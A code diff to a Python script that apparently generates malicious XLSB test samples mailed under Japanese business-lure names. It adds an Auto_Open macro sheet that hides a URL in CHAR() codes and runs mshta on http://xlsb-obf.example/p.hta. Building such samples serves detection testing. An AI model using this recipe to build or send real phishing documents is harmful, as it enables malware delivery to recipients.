@@ -68,7 +68,29 @@ def ptg_funcvar(argc, iftab):
     return b"\x42" + bytes([argc]) + struct.pack("<H", iftab)
 
 
-EXEC, CALL, HALT = 110, 150, 54   # Ftab indexes
+EXEC, CALL, HALT, CHAR = 110, 150, 54, 111   # Ftab indexes
+FORMULA = 0x8000 | 0x60                       # Cetab, as PtgFuncVar says
+
+
+def ptg_func(iftab):
+    """PtgFunc (value class): a function of fixed argument count."""
+    return b"\x41" + struct.pack("<H", iftab)
+
+
+def ptg_ref(row, col):
+    """PtgRef (value class), BIFF12: a 4-byte row, a 2-byte column
+    (absolute: no relative flags), both 0-based."""
+    return b"\x44" + struct.pack("<IH", row, col)
+
+
+def ptg_char_string(s):
+    """s as CHAR(n)&CHAR(n)&... (the obfuscation of Emotet-era sheets)."""
+    out = b""
+    for i, ch in enumerate(s):
+        out += ptg_int(ord(ch)) + ptg_func(CHAR)
+        if i:
+            out += PTG_CONCAT
+    return out
 
 
 def fmla_string_cell(col, rgce, cached=""):
@@ -94,15 +116,18 @@ def bundle_sheet(state, tab, rid, name):
     return rec(156, struct.pack("<II", state, tab) + wstr(rid) + wstr(name))
 
 
-def defined_name(name, builtin=True):
+def defined_name(name, builtin=True, ref=None):
     """BrtName (39): flags (fHidden, fBuiltin), chKey, itab, name, a
-    NameParsedFormula (empty here: cce 0, cb 0) and a null comment."""
+    NameParsedFormula (cce, rgce, cb: a PtgRef3d to ref = (row, col),
+    ixti 0, or empty) and a null comment."""
     flags = 0x01 | (0x20 if builtin else 0)
+    rgce = b"\x3a" + struct.pack("<HIH", 0, *ref) if ref else b""
     return rec(39, struct.pack("<IBI", flags, 0, 0xFFFFFFFF) + wstr(name)
-               + struct.pack("<II", 0, 0) + struct.pack("<I", 0xFFFFFFFF))
+               + struct.pack("<I", len(rgce)) + rgce + struct.pack("<I", 0)
+               + struct.pack("<I", 0xFFFFFFFF))
 
 
-def workbook_bin(sheets, names):
+def workbook_bin(sheets, names, auto_ref=None):
     """BrtBeginBook (131), BrtBeginBundleShs (143), the sheets,
     BrtEndBundleShs (144), the names, BrtEndBook (132)."""
     out = rec(131) + rec(143)
@@ -110,7 +135,7 @@ def workbook_bin(sheets, names):
         out += bundle_sheet(*s)
     out += rec(144)
     for n in names:
-        out += defined_name(n)
+        out += defined_name(n, ref=auto_ref)
     return out + rec(132)
 
 
@@ -183,6 +208,27 @@ def xlm_dropper():
     return package(parts, rels)
 
 
+def xlm_obfuscated():
+    """A macro sheet that writes its URL (scheme and host as CHAR() codes,
+    the path "/p.hta" plain) with FORMULA into A3, then EXECs mshta with
+    A3, started at A1 by Auto_Open."""
+    url = "http://xlsb-obf.example/p.hta"
+    cells = [
+        (0, [fmla_bool_cell(0, ptg_char_string(url[:-6]) + ptg_str(url[-6:]) + PTG_CONCAT
+                            + ptg_ref(2, 0) + ptg_funcvar(2, FORMULA))]),
+        (1, [fmla_bool_cell(0, ptg_str("mshta ") + ptg_ref(2, 0) + PTG_CONCAT
+                            + ptg_funcvar(1, EXEC))]),
+        (3, [fmla_bool_cell(0, ptg_funcvar(0, HALT))]),
+    ]
+    sheets = [(0, 1, "rId1", "Sheet1"), (1, 2, "rId2", "Macro1")]
+    parts = [("xl/workbook.bin", workbook_bin(sheets, ["Auto_Open"], auto_ref=(0, 0))),
+             ("xl/worksheets/sheet1.bin", sheet_bin([])),
+             ("xl/macrosheets/sheet1.bin", sheet_bin(cells))]
+    rels = [("rId1", f"{R}/worksheet", "worksheets/sheet1.bin"),
+            ("rId2", f"{R_MS}/xlMacrosheet", "macrosheets/sheet1.bin")]
+    return package(parts, rels)
+
+
 def dde_link():
     """An external link that is a DDE link to cmd."""
     sheets = [(0, 1, "rId1", "Sheet1")]
@@ -224,6 +270,7 @@ def main():
     for name, fname, data in [("xlsb_xlm_dropper", "見積書_1208.xlsb", xlm_dropper()),
                               ("xlsb_dde_link", "集計_1208.xlsb", dde_link()),
                               ("xlsb_clean", "売上_2026.xlsb", clean()),
+                              ("xlsb_xlm_obfuscated", "請求明細_1208.xlsb", xlm_obfuscated()),
                               ("xlsb_damaged", "見積書_1208.xlsb", damaged())]:
         make_documents.mail(os.path.join(out, name + ".eml"), "【ご確認】資料送付", body,
                             fname, XLSB_CT, data)
